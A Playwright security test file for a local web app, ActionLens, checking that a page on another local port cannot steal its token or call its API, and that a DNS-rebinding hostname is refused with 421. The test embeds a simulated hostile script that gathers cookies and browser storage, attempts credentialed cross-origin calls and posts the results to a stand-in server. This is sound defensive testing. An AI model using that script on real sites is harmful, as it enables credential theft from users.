import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { CHROMIUM_ARGS, chromiumMissingReason, chromiumPath } from './chromium.js';
import { startServe, type RunningHost } from './webHost.js';

// A name that resolves to loopback only inside this Chromium: what a DNS-rebinding page looks like.
const REBIND_NAME = 'rebind.attacker.test';
test.use({ launchOptions: { executablePath: chromiumPath(), args: [...CHROMIUM_ARGS, `--host-resolver-rules=MAP ${REBIND_NAME} 127.0.0.1`] } });

const missing = chromiumMissingReason();
test.skip(missing !== false, missing || '');

interface Seen {
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/** Another local web server (another port on 127.0.0.1): records everything the browser sends it. */
function startOtherServer(hostOrigin: string, videoId: () => number): Promise<{ server: Server; origin: string; seen: Seen[] }> {
  const seen: Seen[] = [];
  // What a hostile page there tries once the user has opened ActionLens in the same browser.
  const page = `<!doctype html><title>other</title><script>
    (async () => {
      const host = ${JSON.stringify(hostOrigin)}, id = ${videoId()};
      const r = { cookie: document.cookie, session: JSON.stringify(sessionStorage), local: JSON.stringify(localStorage) };
      try { r.call = (await fetch(host + '/api/call/library.list', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{}' })).status; } catch { r.call = 'blocked'; }
      try { r.plainCall = (await fetch(host + '/api/call/library.list', { method: 'POST', credentials: 'include', body: '{}' })).status; } catch { r.plainCall = 'blocked'; }
      r.thumb = await new Promise((done) => { const i = new Image(); i.onload = () => done('loaded'); i.onerror = () => done('error'); i.src = host + '/media/thumb/' + id; });
      r.video = await new Promise((done) => { const v = document.createElement('video'); v.onloadedmetadata = () => done('loaded'); v.onerror = () => done('error'); v.src = host + '/media/video/' + id; });
      r.events = await new Promise((done) => { const w = new WebSocket(host.replace('http', 'ws') + '/api/events', ['actionlens']); w.onopen = () => done('open'); w.onerror = () => done('error'); });
      await fetch('/report', { method: 'POST', body: JSON.stringify(r) });
      document.title = 'reported';
    })();
  </script>`;
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      seen.push({ url: request.url ?? '', headers: request.headers, body });
      response.writeHead(200, { 'Content-Type': 'text/html' }).end(request.url === '/report' ? 'ok' : page);
    });
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen })));
}

let dir: string;
let host: RunningHost;
let token: string;

test.beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'actionlens-e2e-credentials-'));
  const clip = join(dir, 'walk.mp4');
  execFileSync('ffmpeg', ['-v', 'error', '-f', 'lavfi', '-i', 'testsrc2=size=320x240:rate=25:duration=2', '-pix_fmt', 'yuv420p', clip]);
  host = await startServe(join(dir, 'e2e.db'));
  token = new URL(host.url).searchParams.get('token') ?? '';
  const added = await fetch(`${host.origin}/api/call/library.add`, { method: 'POST', headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` }, body: JSON.stringify({ paths: [clip] }) });
  expect(added.status).toBe(200);
});

test.afterAll(async () => {
  await host?.stop();
  rmSync(dir, { recursive: true, force: true });
});

test('another server on 127.0.0.1 visited after ActionLens was opened receives nothing usable, and its page can open nothing', async ({ page, context }) => {
  await page.goto(host.url);
  await expect(page).toHaveURL(`${host.origin}/`);
  const thumb = page.getByRole('row', { name: /walk\.mp4/ }).locator('img.thumb');
  await expect(thumb).toHaveJSProperty('complete', true);
  await expect.poll(() => thumb.evaluate((img) => (img as unknown as { naturalWidth: number }).naturalWidth)).toBeGreaterThan(0); // media work in the app
  const videoId = Number(/\/media\/thumb\/(\d+)/.exec((await thumb.getAttribute('src')) ?? '')?.[1]);
  expect(await context.cookies()).toEqual([]); // the host sets no cookie at all

  const other = await startOtherServer(host.origin, () => videoId);
  try {
    const hostile = await context.newPage();
    await hostile.goto(`${other.origin}/`);
    await expect(hostile).toHaveTitle('reported', { timeout: 20_000 });
    await hostile.goto(`http://localhost:${new URL(other.origin).port}/`);
    await expect(hostile).toHaveTitle('reported', { timeout: 20_000 });

    // Nothing the browser sent the other server carries the token or any cookie.
    expect(other.seen.length).toBeGreaterThanOrEqual(4);
    for (const request of other.seen) {
      expect(request.headers.cookie).toBeUndefined();
      expect(JSON.stringify(request)).not.toContain(token);
    }
    // Its page could read no credential, call nothing, load no media, open no event stream.
    const reports = other.seen.filter((r) => r.url === '/report').map((r) => JSON.parse(r.body) as Record<string, unknown>);
    expect(reports).toHaveLength(2);
    for (const report of reports) {
      expect(report).toMatchObject({ cookie: '', session: '{}', local: '{}', call: 'blocked', thumb: 'error', video: 'error', events: 'error' });
      expect(report.plainCall === 'blocked' || report.plainCall === 401).toBe(true);
    }
    // Whatever did arrive, replayed against the host, opens nothing.
    for (const request of other.seen) {
      const replayed = Object.fromEntries(Object.entries(request.headers).filter(([name]) => !['host', 'content-length', 'connection'].includes(name)).map(([name, value]) => [name, String(value)]));
      const answer = await fetch(`${host.origin}/api/call/library.list`, { method: 'POST', headers: { ...replayed, 'Content-Type': 'application/json' }, body: '{}' });
      expect(answer.status).toBe(401);
    }
  } finally {
    other.server.closeAllConnections();
    other.server.close();
  }

  // A reload keeps working: the token lives in this tab's sessionStorage, not in the address.
  await page.reload();
  await expect(page.getByRole('row', { name: /walk\.mp4/ })).toBeVisible();
  await expect(page).toHaveURL(`${host.origin}/`);
});

test('a DNS-rebinding name for the host is refused with 421 even with the token; its own address and port is answered', async ({ page }) => {
  const port = new URL(host.origin).port;
  const rebound = await page.goto(`http://${REBIND_NAME}:${port}/?token=${token}`);
  expect(rebound?.status()).toBe(421);
  const call = await page.evaluate(async (bearer) => {
    const response = await fetch('/api/call/library.list', { method: 'POST', headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${bearer}` }, body: '{}' });
    return response.status;
  }, token);
  expect(call).toBe(421);

  const own = await page.goto(host.url);
  expect(own?.status()).toBe(200);
  await expect(page.getByRole('row', { name: /walk\.mp4/ })).toBeVisible();
});
